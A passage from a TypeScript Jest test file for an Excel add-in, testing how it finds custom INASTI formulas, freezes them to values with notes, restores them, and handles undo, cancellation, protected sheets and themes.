    book.failure = (operation) => (operation.startsWith("PageLayout") ? "GeneralException" : undefined);
    await expect(excelHost.insertSheet(SHEET)).resolves.toBe("Projection");
  });
});

const ours = (formula: string): boolean => formula.includes("INASTI.");

describe("the formulas of the workbook", () => {
  beforeEach(() => {
    book.answers.set("=INASTI.QUARTERLY(A1)", 768.79);
    book.answers.set("=INASTI.SCALE()", [
      ["from", "rate"],
      [0, 0.205],
    ]);
    book.addSheet("My sheet");
    book.addSheet("Empty");
    book.type({ A1: 15_000, B1: "=INASTI.QUARTERLY(A1)", B2: "=SUM(A1)", B3: "'=INASTI.QUARTERLY(A1)" });
    book.type({ C3: "=INASTI.SCALE()" }, "My sheet");
    book.sheet("Sheet1").notes.set("B1", "checked");
  });

  it("are found with what they fill and their notes; not the cells they fill, and no text that looks like one", async () => {
    await expect(excelHost.formulaCells(ours)).resolves.toEqual([
      { sheet: "Sheet1", address: "B1", formula: "=INASTI.QUARTERLY(A1)", values: [[768.79]], note: "checked" },
      {
        sheet: "My sheet",
        address: "C3",
        formula: "=INASTI.SCALE()",
        values: [
          ["from", "rate"],
          [0, 0.205],
        ],
        note: null,
      },
    ]);
  });

  it("are read with large tables part by part, and what these fill is not looked into", async () => {
    const rows = Array.from({ length: 45_000 }, (_, row) => [row]);
    book.answers.set("=INASTI.BATCH()", rows);
    book.addSheet("Batch");
    book.type({ B1: "=INASTI.BATCH()" }, "Batch");
    book.mostValues = 20_000;
    const cells = await excelHost.formulaCells((formula) => formula.startsWith("=INASTI.BATCH"));
    expect(cells).toEqual([expect.objectContaining({ sheet: "Batch", address: "B1", values: rows })]);
    expect(book.requests.length).toBeLessThan(20);
  });

  it("have no notes in an Excel that knows none", async () => {
    book.supportsNotes = false;
    const [first] = await excelHost.formulaCells(ours);
    expect(first).toMatchObject({ address: "B1", note: null });
  });

  it("are read in steps that tell how far they are", async () => {
    book.type({ A25000: "=INASTI.QUARTERLY(A1)" });
    const onProgress = jest.fn();
    const cells = await excelHost.formulaCells(ours, { onProgress });
    expect(cells.map(({ address }) => address)).toEqual(["B1", "A25000", "C3"]);
    // Two columns of 25,000 rows, 10,000 rows a step; then the four cells of the table.
    expect(onProgress.mock.calls).toEqual([0, 20_000, 40_000, 50_000, 50_004].map((done) => [done, 50_004]));
  });

  it("are what was found when the work is cancelled", async () => {
    const abort = new AbortController();
    const onProgress = (done: number): void => (done > 0 ? abort.abort() : undefined);
    const cells = await excelHost.formulaCells(ours, { signal: abort.signal, onProgress });
    expect(cells.map(({ sheet }) => sheet)).toEqual(["Sheet1"]);
  });

  it("the notes are found with the formulas under them", async () => {
    book.sheet("My sheet").notes.set("C3", "frozen: a");
    book.sheet("My sheet").notes.set("A1", "frozen: b");
    const onProgress = jest.fn();
    await expect(excelHost.noteCells((text) => text.startsWith("frozen"), { onProgress })).resolves.toEqual([
      { sheet: "My sheet", address: "C3", text: "frozen: a", formula: "=INASTI.SCALE()" },
      { sheet: "My sheet", address: "A1", text: "frozen: b", formula: null },
    ]);
    expect(onProgress.mock.calls).toEqual([0, 1, 2, 3].map((done) => [done, 3]));
  });

  it("protected sheets are named", async () => {
    await expect(excelHost.protectedSheets()).resolves.toEqual([]);
    book.sheet("My sheet").protection = { allowFormatCells: true, allowEditObjects: true };
    await expect(excelHost.protectedSheets()).resolves.toEqual(["My sheet"]);
  });
});

const always = (note: string) => ({ note: () => note });
const SINGLE = {
  sheet: "Sheet1",
  address: "B1",
  formula: "=INASTI.QUARTERLY(A1)",
  rows: 1,
  columns: 1,
  noteBefore: null,
  ...always("note of B1"),
};
const TABLE = {
  sheet: "Sheet1",
  address: "D1",
  formula: "=INASTI.MONTHS()",
  rows: 2,
  columns: 2,
  noteBefore: null,
  ...always("note of D1"),
};
const isUnchanged = () => true;
const SINGLE_BACK = { ...SINGLE, noteBefore: "note of B1", note: null, isUnchanged };
const TABLE_BACK = { ...TABLE, noteBefore: "note of D1", note: null, isUnchanged };

describe("freezing", () => {
  beforeEach(() => {
    book.answers.set("=INASTI.QUARTERLY(A1)", 768.79);
    book.answers.set("=INASTI.MONTHS()", [
      ["2026-01", 1],
      ["2026-02", "#N/A"],
    ]);
    book.type({ A1: 15_000, B1: "=INASTI.QUARTERLY(A1)", D1: "=INASTI.MONTHS()", C1: "=B1" });
  });

  it("puts the values in place as they are, a note with each", async () => {
    book.sheet("Sheet1").notes.set("B1", "an older note");
    const onProgress = jest.fn();
    const before = book.values();
    const single = { ...SINGLE, noteBefore: "an older note" };
    await expect(excelHost.freeze([single, TABLE], { onProgress })).resolves.toBe(2);
    expect(book.formulasOf()).toEqual({ C1: "=B1" });
    expect(book.values()).toEqual(before);
    expect(notes()).toEqual({ B1: "note of B1", D1: "note of D1" });
    expect(onProgress.mock.calls).toEqual([
      [0, 2],
      [2, 2],
    ]);
  });

  it("gives its notes room for a formula, but on the web, which does not", async () => {
    await excelHost.freeze([SINGLE]);
    expect([...book.noteSizes]).toEqual([240, 120]);
    book.noteSizes.clear();
    book.platform = "OfficeOnline";
    await excelHost.freeze([TABLE]);
    expect(notes()).toEqual({ B1: "note of B1", D1: "note of D1" });
    expect([...book.noteSizes]).toEqual([]);
  });

  it("and back, with the older note or none", async () => {
    const before = book.values();
    await excelHost.freeze([SINGLE, TABLE]);
    await expect(excelHost.unfreeze([{ ...SINGLE_BACK, note: "an older note" }, TABLE_BACK])).resolves.toBe(2);
    expect(book.formulasOf()).toEqual({ B1: "=INASTI.QUARTERLY(A1)", C1: "=B1", D1: "=INASTI.MONTHS()" });
    expect(book.values()).toEqual(before);
    expect(notes()).toEqual({ B1: "an older note" });
  });

  it("writes the notes in a request before that of the values", async () => {
    await excelHost.freeze([SINGLE, TABLE]);
    const requests = book.requests.filter((request) => request.length > 0);
    expect(requests).toEqual([
      ["Notes.add Sheet1!B1", "Notes.add Sheet1!D1"],
      ["Range.copyFrom Sheet1!B1", "Range.copyFrom Sheet1!D1:E2"],
    ]);
  });

  it("every formula stands that has no note, when Excel stops at the notes", async () => {
    book.failure = (operation) => (operation === "Notes.add Sheet1!D1" ? "RequestAborted" : undefined);
    await expect(excelHost.freeze([SINGLE, TABLE])).rejects.toMatchObject({ code: "RequestAborted" });
    expect(book.formulasOf()).toMatchObject({ B1: "=INASTI.QUARTERLY(A1)", D1: "=INASTI.MONTHS()" });
  });

  it.each([
    ["of which Excel keeps a part only", "x".repeat(60)],
    ["of which a user's own note leaves no room", `mine\n${"x".repeat(60)}`],
  ])("no formula goes for a note %s", async (_, note) => {
    book.longestNote = 40;
    if (note.startsWith("mine")) book.sheet("Sheet1").notes.set("B1", "mine");
    const before = notes();
    const onRefused = jest.fn();
    await excelHost.freeze([{ ...SINGLE, ...always(note), noteBefore: before["B1"] ?? null }, TABLE], { onRefused });
    expect(onRefused.mock.calls).toMatchObject([[{ address: "B1" }]]);
    expect(book.formulasOf()).toEqual({ B1: "=INASTI.QUARTERLY(A1)", C1: "=B1" });
    expect(notes()).toEqual({ ...before, D1: "note of D1" });
  });

  it.each(["Notes.add Sheet1!Z7", "Range.copyFrom Sheet1!Z7"])(
    "does what it can around a cell that Excel refuses, as where %s fails",
    async (failing) => {
      const cells = Array.from({ length: 20 }, (_, index) => `Z${index + 1}`);
      book.type(Object.fromEntries(cells.map((address) => [address, "=INASTI.QUARTERLY(A1)"])));
      book.failure = (operation) => (operation === failing ? "GeneralException" : undefined);
      const onRefused = jest.fn();
      const plans = cells.map((address) => ({ ...SINGLE, address }));
      await expect(excelHost.freeze(plans, { onRefused })).resolves.toBe(20);
      expect(onRefused.mock.calls).toMatchObject([[{ sheet: "Sheet1", address: "Z7" }]]);
      expect(Object.keys(book.formulasOf()).filter((address) => address.startsWith("Z"))).toEqual(["Z7"]);
      expect(Object.keys(notes()).sort()).toEqual(cells.filter((address) => address !== "Z7").sort());
    },
  );

  it("brings back what it can around a formula that Excel refuses", async () => {
    await excelHost.freeze([SINGLE, TABLE]);
    const onRefused = jest.fn();
    const unfrozen = [{ ...SINGLE_BACK, formula: "=(" }, TABLE_BACK];
    await expect(excelHost.unfreeze(unfrozen, { onRefused })).resolves.toBe(2);
    expect(onRefused.mock.calls).toMatchObject([[{ address: "B1" }]]);
    expect(book.formulasOf()).toEqual({ C1: "=B1", D1: "=INASTI.MONTHS()" });
    expect(notes()).toEqual({ B1: "note of B1" });
  });

  it("every value has its note, when Excel stops half-way", async () => {
    book.failure = (operation) => (operation.startsWith("Range.copyFrom Sheet1!D1") ? "RequestAborted" : undefined);
    await expect(excelHost.freeze([SINGLE, TABLE])).rejects.toMatchObject({ code: "RequestAborted" });
    expect(book.formulasOf()).toEqual({ C1: "=B1", D1: "=INASTI.MONTHS()" });
    expect(notes()).toEqual({ B1: "note of B1", D1: "note of D1" });
    await excelHost.unfreeze([SINGLE_BACK]);
    expect(book.formulasOf()).toMatchObject({ B1: "=INASTI.QUARTERLY(A1)" });
  });

  it("leaves values and note, when a formula is refused", async () => {
    await excelHost.freeze([TABLE]);
    const before = book.values();
    const refused = { ...TABLE_BACK, formula: "=(" };
    const onRefused = jest.fn();
    await excelHost.unfreeze([refused], { onRefused });
    expect(onRefused.mock.calls).toMatchObject([[{ address: "D1" }]]);
    expect(book.values()).toEqual(before);
    expect(notes()).toEqual({ D1: "note of D1" });
  });

  it("keeps the note, when the rest fails after the formula stands", async () => {
    await excelHost.freeze([TABLE]);
    book.failure = (operation) => (operation.startsWith("Range.clear") ? "RequestAborted" : undefined);
    await expect(excelHost.unfreeze([TABLE_BACK])).rejects.toMatchObject({
      code: "RequestAborted",
    });
    expect(notes()).toEqual({ D1: "note of D1" });
  });

  it("stops between two steps when it is cancelled, and says how many are done", async () => {
    const cells = Array.from({ length: 450 }, (_, index) => `Z${index + 1}`);
    book.type(Object.fromEntries(cells.map((address) => [address, "=INASTI.QUARTERLY(A1)"])));
    const abort = new AbortController();
    const work = {
      signal: abort.signal,
      onProgress: (done: number): void => (done >= 200 ? abort.abort() : undefined),
    };
    const plans = cells.map((address) => ({ ...SINGLE, address }));
    await expect(excelHost.freeze(plans, work)).resolves.toBe(200);
    expect(Object.keys(notes())).toEqual(cells.slice(0, 200));
    expect(Object.keys(book.formulasOf()).filter((address) => address.startsWith("Z"))).toEqual(cells.slice(200));
  });

  it("a protected sheet stays as it is", async () => {
    book.sheet("Sheet1").protection = { allowFormatCells: false, allowEditObjects: false };
    const before = book.formulasOf();
    await expect(excelHost.freeze([SINGLE])).rejects.toMatchObject({ code: "AccessDenied" });
    expect(book.formulasOf()).toEqual(before);
  });

  it("is refused by an Excel without notes, and so is what reads them", async () => {
    book.supportsNotes = false;
    await expect(excelHost.freeze([SINGLE])).rejects.toBeInstanceOf(Unsupported);
    await expect(excelHost.unfreeze([])).rejects.toBeInstanceOf(Unsupported);
    await expect(excelHost.noteCells(() => true)).rejects.toBeInstanceOf(Unsupported);
    expect(book.formulasOf()).toMatchObject({ B1: "=INASTI.QUARTERLY(A1)" });
  });
});

describe("the ribbon", () => {
  const press = (id: string): Promise<void> => new Promise((completed) => book.commands.get(id)!({ completed }));

  it("ends a command when it is done, also when it failed", async () => {
    const report = jest.spyOn(console, "error").mockImplementation();
    const done = jest.fn();
    const failure = new Error("no");
    onCommand({ works: () => Promise.resolve().then(done), fails: () => Promise.reject(failure) });
    await press("works");
    expect(done).toHaveBeenCalledTimes(1);
    await press("fails");
    expect(report).toHaveBeenCalledWith(failure);
  });
});

describe("one step of Undo", () => {
  const undone = async (act: () => Promise<unknown>): Promise<string[][]> => {
    book.undoSteps.length = 0;
    await act();
    return book.undoSteps.filter((step) => !step.every((operation) => /select|activate/i.test(operation)));
  };

  beforeEach(() => {
    book.answers.set("=FEE(A1)", 0.0405);
    book.answers.set("=INASTI.QUARTERLY(A1)", 768.79);
    const rows = Array.from({ length: 450 }, (_, index) => `Z${index + 1}`);
    book.type(Object.fromEntries(rows.map((address) => [address, "=INASTI.QUARTERLY(A1)"])));
    select("B2");
  });

  const plans = Array.from({ length: 450 }, (_, index) => ({ ...SINGLE, address: `Z${index + 1}` }));
  const back = plans.map((plan) => ({ ...SINGLE_BACK, address: plan.address }));

  it("takes an insertion, a sheet, a freeze or an unfreeze back as a whole", async () => {
    for (const act of [
      () => excelHost.insertBlock({ ...BLOCK, charts: [CHART] }),
      () => excelHost.insertSheet(SHEET),
      () => excelHost.freeze(plans),
      () => excelHost.unfreeze(back),
    ])
      expect(await undone(act)).toHaveLength(1);
    expect(book.groups).toBe(0);
  });

  it("is as many of them as there are requests where Excel cannot group", async () => {
    book.supportsUndoGroups = false;
    expect((await undone(() => excelHost.insertSheet(SHEET))).length).toBeGreaterThan(2);
    // Notes and values of 200, 200 and 50 cells.
    expect(await undone(() => excelHost.freeze(plans))).toHaveLength(6);
  });

  it("is given up where Excel cannot undo a part, and nothing comes twice", async () => {
    book.failure = (operation) => (operation === "Charts.add" && book.groups > 0 ? "UndoNotSupported" : undefined);
    await expect(excelHost.insertSheet(SHEET)).resolves.toBe("Projection");
    expect(book.sheets.map(({ name }) => name)).toEqual(["Sheet1", "Projection"]);
    expect(book.sheet("Projection").charts).toHaveLength(1);

    const refused = (operation: string): boolean => operation === "Range.copyFrom Sheet1!Z300" && book.groups > 0;
    book.failure = (operation) => (refused(operation) ? "UndoNotSupported" : undefined);
    const onChanged = jest.fn();
    await expect(excelHost.freeze(plans, { onChanged })).resolves.toBe(450);
    expect(onChanged).not.toHaveBeenCalled();
    expect(Object.keys(notes())).toHaveLength(450);
    expect(Object.values(book.formulasOf()).filter(ours)).toEqual([]);
  });
});

describe("languages and theme", () => {
  it("are Office's", () => {
    expect(excelHost.displayLanguage()).toBe("fr-BE");
    expect(excelHost.contentLanguage()).toBe("nl-BE");
  });

  it.each([
    ["#212121", true],
    ["#FFFFFF", false],
    ["#e6e6e6", false],
    [undefined, false],
  ])("a background of %s is dark: %s", (bodyBackgroundColor, dark) => {
    Object.assign(Office.context, { officeTheme: bodyBackgroundColor && { bodyBackgroundColor } });
    expect(excelHost.isDarkTheme()).toBe(dark);
  });
});
